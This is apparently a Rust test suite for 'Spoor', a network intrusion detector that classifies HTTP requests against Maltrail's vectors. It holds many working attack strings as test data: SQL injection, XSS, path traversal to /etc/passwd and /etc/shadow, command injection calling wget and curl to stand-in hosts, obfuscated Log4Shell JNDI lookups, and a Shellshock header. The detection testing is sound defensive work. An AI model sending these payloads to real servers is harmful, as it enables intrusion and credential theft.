use super::*;
use crate::output::vectors::read_vectors;
use crate::proto::http::parse_request;

fn public() -> IpAddr {
    "203.0.113.9".parse().unwrap()
}

/// A request for `target` with `headers` (each `Name: value`) and `body`.
fn raw(method: &str, target: &str, headers: &[&str], body: &str) -> Vec<u8> {
    let mut r = format!("{method} {target} HTTP/1.1\r\n");
    for h in headers {
        r.push_str(h);
        r.push_str("\r\n");
    }
    r.push_str("\r\n");
    r.push_str(body);
    r.into_bytes()
}

fn classify_raw(payload: &[u8], dst: IpAddr, config: &ContentConfig) -> Option<Verdict> {
    let request = parse_request(payload).expect("a request");
    let facts = RequestFacts {
        request: &request,
        head: &payload[..request.head_len],
        body: &payload[request.head_len..],
        dst,
    };
    RequestClassifier::shared().classify(&facts, config, &mut Scratch::default())
}

fn classify_get(target: &str, host: &str) -> Option<Verdict> {
    let host = format!("Host: {host}");
    let payload = raw("GET", target, &[&host, "User-Agent: t/1"], "");
    classify_raw(&payload, public(), &ContentConfig::default())
}

/// Vectors where Spoor deliberately gives another verdict than Maltrail, and why.
const REQUEST_DIFFERENCES: &[(&str, &str, &str)] = &[(
    "/x?q=%7B%7B7*7%7D%7D",
    "potential ssti injection",
    "Spoor decodes percent escapes before matching, so `{{7*7}}` sent encoded is seen",
)];

#[test]
fn maltrail_request_vectors_agree() {
    let rows = read_vectors("suspicious_request.tsv");
    assert!(rows.len() >= 16);
    let mut agreed = 0;
    for row in &rows {
        let (payload, want) = (&row[0], &row[1]);
        // The vectors are decoded text; a request line carries spaces encoded.
        let target = payload.replace(' ', "%20");
        let got = classify_get(&target, "site.example")
            .map(|v| v.info.trim_end_matches(" (suspicious)").to_string())
            .unwrap_or_default();
        if let Some((_, spoor, _)) = REQUEST_DIFFERENCES.iter().find(|d| d.0 == payload) {
            assert_eq!(got, *spoor, "{payload}: the listed difference changed");
            continue;
        }
        assert_eq!(got, *want, "{payload}");
        agreed += 1;
    }
    assert_eq!(agreed + REQUEST_DIFFERENCES.len(), rows.len());
}

/// `host+path` vectors of Maltrail's IoT direct-IP URL rule where Spoor differs.
const IOT_DIFFERENCES: &[(&str, &str)] = &[(
    "10.0.0.1/wtf",
    "a three-letter word is not evidence of a bot binary; Spoor wants an architecture, a bot family, /bins/ or a shell script",
)];

#[test]
fn maltrail_direct_ip_url_vectors_agree() {
    let rows = read_vectors("direct_ip_url.tsv");
    assert!(rows.len() >= 6);
    for row in &rows {
        let (url, want) = (&row[0], row[1] == "1");
        let (host, path) = url.split_at(url.find('/').unwrap());
        let got = classify_get(path, host).is_some_and(|v| v.heuristic == Heuristic::IotDownload);
        if IOT_DIFFERENCES.iter().any(|d| d.0 == url) {
            assert_ne!(got, want, "{url}: the listed difference changed");
            continue;
        }
        assert_eq!(got, want, "{url}");
    }
    // Only from IP-literal hosts.
    assert!(classify_get("/mips", "cdn.example").is_none());
}

#[test]
fn classes_with_evidence() {
    let cases: &[(&str, Heuristic)] = &[
        ("/p?id=1%27%20OR%20%271%27%3D%271", Heuristic::SqlInjection),
        (
            "/p?id=1%27+UNION+SELECT+NULL%2C+version%28%29+%23",
            Heuristic::SqlInjection,
        ),
        ("/p?id=1/**/union/**/select/**/1,2", Heuristic::SqlInjection),
        ("/p?id=1;waitfor%20delay%20'0:0:5'", Heuristic::SqlInjection),
        ("/p?id=sleep(5)", Heuristic::SqlInjection),
        ("/p?u=admin%27--", Heuristic::SqlInjection),
        ("/p?q=%253Cscript%253Ealert(1)", Heuristic::Xss),
        (
            "/p?q=%u003Cimg%20src%3Dx%20onerror%3Dalert(1)%u003E",
            Heuristic::Xss,
        ),
        ("/p?next=javascript:alert(document.cookie)", Heuristic::Xss),
        ("/p?u=*)(uid=*))(|(uid=*", Heuristic::LdapInjection),
        (
            "/p?f=php://filter/convert.base64-encode/resource=index",
            Heuristic::PhpInjection,
        ),
        (
            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            Heuristic::PhpInjection,
        ),
        ("/p?name={{config.__class__}}", Heuristic::TemplateInjection),
        (
            "/p?x=%24%7BT(java.lang.Runtime).getRuntime()%7D",
            Heuristic::RemoteCodeExecution,
        ),
        ("/p?x=<%25=%207*7%20%25>", Heuristic::TemplateInjection),
        (
            "/..%c0%af..%c0%af..%c0%afetc/passwd",
            Heuristic::PathTraversal,
        ),
        ("/%2e%2e/images.gif", Heuristic::PathTraversal),
        ("/../a/b/../c/./d.html", Heuristic::PathTraversal),
        (
            "//index.php?page=../../../etc/passwd",
            Heuristic::PathTraversal,
        ),
        ("/p?url=file:///etc/shadow", Heuristic::PathTraversal),
        ("/p?f=..%5c..%5cwindows%5cwin.ini", Heuristic::PathTraversal),
        ("/.env", Heuristic::ConfigFileAccess),
        ("/.git/config", Heuristic::ConfigFileAccess),
        ("/blog/wp-config.php.bak", Heuristic::ConfigFileAccess),
        ("/.aws/credentials", Heuristic::ConfigFileAccess),
        ("/x?cmd=%60id%60", Heuristic::RemoteCodeExecution),
        (
            "/x?ip=1.1.1.1%7Cwget%20http://1.2.3.4/x",
            Heuristic::RemoteCodeExecution,
        ),
        (
            "/x?ip=127.0.0.1%0acat%20/etc/passwd",
            Heuristic::RemoteCodeExecution,
        ),
        (
            "/x?c=$(curl%20evil.example)",
            Heuristic::RemoteCodeExecution,
        ),
        (
            "/x?redirect=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
            Heuristic::RemoteCodeExecution,
        ),
        (
            "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            Heuristic::RemoteCodeExecution,
        ),
        ("/x?mac=00:11:22:33:44:55", Heuristic::DataLeakage),
        (
            "/cgi-bin/dns?primary_dns=6.6.6.6&secondary_dns=6.6.6.7",
            Heuristic::DnsChanger,
        ),
        ("/x?u=http://abc.oastify.com", Heuristic::ScannerProbe),
    ];
    let mut wrong = Vec::new();
    for (target, want) in cases {
        let got = classify_get(target, "site.example");
        match &got {
            Some(v) if v.heuristic == *want => {
                assert!(
                    !v.reason.is_empty() && v.trail.starts_with("site.example("),
                    "{v:?}"
                );
            }
            _ => wrong.push(format!("{target}: want {want:?}, got {got:?}")),
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn log4shell_obfuscations_are_seen() {
    let payloads = [
        "${jndi:ldap://x.example/a}",
        "${${lower:j}${lower:n}${lower:d}i:ldap://x.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.example/a}",
        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x.example/a}",
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.example/a}",
        "${jnd${upper:\u{131}}:ldap://x.example/a}",
        "${${upper:j}${upper:n}${lower:d}${lower:i}:dns://x.example}",
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.example/a}",
        "${${lower:${lower:jndi}}:ldap://x.example/a}",
    ];
    for p in payloads {
        for header in ["User-Agent", "X-Api-Version", "Referer"] {
            let h = format!("{header}: {p}");
            let payload = raw("GET", "/", &["Host: a.example", &h], "");
            let v = classify_raw(&payload, public(), &ContentConfig::default())
                .unwrap_or_else(|| panic!("{header}: {p}"));
            assert_eq!(v.heuristic, Heuristic::RemoteCodeExecution, "{p}");
            assert!(v.reason.contains(header), "{}", v.reason);
        }
    }
    // Harmless lookups and braces are not log4shell.
    for p in [
        "${env:HOME}",
        "${lower:ABC}",
        "{\"a\":\"${x}\"}",
        "${",
        "${${${",
    ] {
        let h = format!("X-Template: {p}");
        let payload = raw("GET", "/", &["Host: a.example", "User-Agent: t", &h], "");
        assert!(
            classify_raw(&payload, public(), &ContentConfig::default()).is_none(),
            "{p}"
        );
    }
}

#[test]
fn shellshock_in_any_header() {
    let payload = raw(
        "GET",
        "/cgi-bin/status",
        &["Host: a.example", "User-Agent: () { :;}; /bin/bash -c 'id'"],
        "",
    );
    let v = classify_raw(&payload, public(), &ContentConfig::default()).unwrap();
    assert_eq!(v.heuristic, Heuristic::RemoteCodeExecution);
    assert!(v.reason.contains("shellshock"), "{}", v.reason);
}

#[test]
fn post_bodies_are_checked() {
    let payload = raw(
        "POST",
        "/submit",
        &["Host: postsqli.example", "Content-Length: 35"],
        "q=1 UNION ALL SELECT pwd FROM users",
    );
    let v = classify_raw(&payload, public(), &ContentConfig::default()).unwrap();
    assert_eq!(v.heuristic, Heuristic::SqlInjection);
    assert_eq!(
        v.trail,
        r"postsqli.example(/submit \(POST q=1%20UNION%20ALL%20SELECT%20pwd%20FROM%20users\))"
    );
    // A form body with ordinary text.
    let payload = raw(
        "POST",
        "/comment",
        &["Host: blog.example"],
        "name=Ann&text=Nice+post%21+I+selected+a+photo+from+the+album%3B+cats+rule.%0Acat+lovers+unite",
    );
    assert!(classify_raw(&payload, public(), &ContentConfig::default()).is_none());
}

#[test]
fn downloads_and_probes() {
    let v = classify_get("/setup.exe", "dl.example").unwrap();
    assert_eq!(v.heuristic, Heuristic::DirectDownload);
    assert_eq!(v.info, "direct .exe download (suspicious)");
    assert_eq!(v.trail, "dl.example(/setup.exe)");
    for ordinary in [
        "/ChromeSetupInstaller.exe",
        "/cgi-bin/cart32.exe",
        "/get.exe?id=5",
        "/app.js",
        "/img/logo.png",
    ] {
        let got = classify_get(ordinary, "dl.example");
        assert!(got.is_none(), "{ordinary}: {got:?}");
    }
    // A local server's downloads are not reported.
    let payload = raw("GET", "/a.exe", &["Host: nas.lan", "User-Agent: t"], "");
    let local: IpAddr = "192.168.1.2".parse().unwrap();
    assert!(classify_raw(&payload, local, &ContentConfig::default()).is_none());

    let v = classify_get("/mirai.x86", "198.51.100.99").unwrap();
    assert_eq!(v.heuristic, Heuristic::IotDownload);
    assert_eq!(v.info, "potential iot-malware download (suspicious)");
    assert!(classify_get("/robins.jpg", "198.51.100.99").is_none());

    let payload = raw(
        "GET",
        "http://proxycheck.example/",
        &["Host: 203.0.113.17", "User-Agent: t"],
        "",
    );
    let v = classify_raw(&payload, public(), &ContentConfig::default()).unwrap();
    assert_eq!(v.heuristic, Heuristic::ProxyProbe);
    assert_eq!(v.info, "potential proxy probe (suspicious)");
    // A proxy client names the target in Host too.
    let payload = raw(
        "GET",
        "http://www.example.com/a",
        &["Host: www.example.com", "User-Agent: t"],
        "",
    );
    assert!(classify_raw(&payload, public(), &ContentConfig::default()).is_none());
}

#[test]
fn switches_turn_classes_off() {
    let payload = raw(
        "GET",
        "/p?id=1%20union%20select%201",
        &["Host: a", "User-Agent: t"],
        "",
    );
    let config = ContentConfig::default().without(Heuristic::SqlInjection);
    assert!(classify_raw(&payload, public(), &config).is_none());
    assert!(classify_raw(&payload, public(), &ContentConfig::default()).is_some());
    // Data leakage towards a local server is not reported.
    let payload = raw(
        "GET",
        "/x?imei=123456789012345",
        &["Host: a", "User-Agent: t"],
        "",
    );
    let local: IpAddr = "10.1.2.3".parse().unwrap();
    assert!(classify_raw(&payload, local, &ContentConfig::default()).is_none());
}

/// Requests of ordinary browsing and software that must raise nothing.
#[test]
fn ordinary_requests_pass() {
    let targets = [
        "/",
        "/index.html",
        "/static/js/app.3f9a1c.min.js",
        "/wp-content/uploads/2024/05/photo.jpg",
        "/search?q=how+to+select+a+laptop&hl=en",
        "/search?q=rock%27n%27roll+history",
        "/search?q=O%27Brien%20and%20sons",
        "/api/v1/items?id=42&lang=en&sort=-date",
        "/news/2024/05/article-title-with-words?utm_source=x&utm_medium=y",
        "/maps/@48.8566,2.3522,12z",
        "/a/b/c.php?id=1&x=2",
        "/login?next=%2Fhome%2Fsettings",
        "/product/12345?color=red&size=m#reviews",
        "/tag/c%2B%2B",
        "/path/with/unicode/%E2%82%AC",
        "/css/main.css?v=1.2.3",
        "/user/profile;jsessionid=ABC123",
        "/feed.xml",
        "/download/update.json",
        "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
        "/calc?expr=2*3",
        "/s?q=config+file+format",
        "/blog/etc/hosting-guide",
        "/x?email=someone@example.com",
    ];
    let mut noisy = Vec::new();
    for t in targets {
        if let Some(v) = classify_get(t, "www.example.com") {
            noisy.push(format!("{t}: {v:?}"));
        }
    }
    assert!(noisy.is_empty(), "{}", noisy.join("\n"));
}

#[test]
fn hostile_requests_stay_bounded() {
    let config = ContentConfig::default();
    // Deeply nested lookups, an unclosed lookup, a huge URI, binary octets.
    let nested = format!("/x?a={}jndi:x{}", "${".repeat(1_500), "}".repeat(1_500));
    let payload = raw("GET", &nested, &["Host: a", "User-Agent: t"], "");
    let _ = classify_raw(&payload, public(), &config);
    let unclosed = format!("/x?a={}", "${".repeat(3_000));
    let payload = raw("GET", &unclosed, &["Host: a", "User-Agent: t"], "");
    let _ = classify_raw(&payload, public(), &config);
    let huge = format!("/{}", "a/".repeat(3_000));
    let payload = raw("GET", &huge, &["Host: a", "User-Agent: t"], "");
    let _ = classify_raw(&payload, public(), &config);
    let mut binary = b"GET /".to_vec();
    binary.extend((0x21..=0xffu8).filter(|b| *b != 0x7f));
    binary.extend_from_slice(b" HTTP/1.1\r\nHost: a\r\n\r\n");
    let _ = classify_raw(&binary, public(), &config);
    // A body of the largest size examined, all escapes.
    let body = "%25".repeat(MAX_SUBJECT_LEN);
    let payload = raw("POST", "/", &["Host: a", "User-Agent: t"], &body);
    let _ = classify_raw(&payload, public(), &config);
    // Dot segments: only climbing above the root counts.
    assert_eq!(climbs_above_root(b"/a/b/../c"), None);
    assert_eq!(climbs_above_root(b"/a/../../c"), Some(8));
    assert_eq!(climbs_above_root(b"/..?x=1"), Some(3));
    assert_eq!(climbs_above_root(b""), None);
}

#[test]
fn plain_paths_skip_the_patterns() {
    let c = RequestClassifier::shared();
    let is_plain = |u: &[u8]| c.is_plain(u);
    assert!(is_plain(b"/index.html"));
    assert!(is_plain(b"/static/js/app-1.min.js"));
    assert!(!is_plain(b"/a?b=c"));
    assert!(!is_plain(b"/.env"));
    assert!(!is_plain(b"/a/../b"));
    assert!(!is_plain(b"/wp-config.php"));
    assert!(!is_plain(b"/acunetix_wvs_security_test"));
    assert!(!is_plain(b"/%2e%2e/"));
    assert!(!is_plain(b"/Settings.PHP"));
}
